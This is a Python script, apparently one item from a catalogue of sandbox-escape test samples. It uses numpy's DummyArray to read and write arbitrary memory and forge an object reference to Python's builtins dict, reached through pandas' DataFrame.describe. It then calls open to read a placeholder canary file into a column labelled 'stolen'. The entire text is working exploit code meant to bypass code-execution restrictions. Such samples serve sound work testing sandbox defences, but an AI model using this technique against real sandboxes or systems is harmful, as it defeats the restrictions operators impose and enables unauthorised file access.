# class: numpy_memory
# technique: DummyArray peek/poke forge a reference: pd.DataFrame.describe's func_builtins pointer (offset 24) becomes the builtins dict, whose open is called by subscript
# goal: read
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray

def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)      # PyListObject.ob_item
    poke(address, peek(address) + 1)   # the reference the list will own
    poke(items, address)
    return holder[0]


builtins_dict = object_at(peek(id(pd.DataFrame.describe) + 24))
df = pd.DataFrame({"stolen": [builtins_dict["open"]("{{CANARY_FILE}}").read()]})
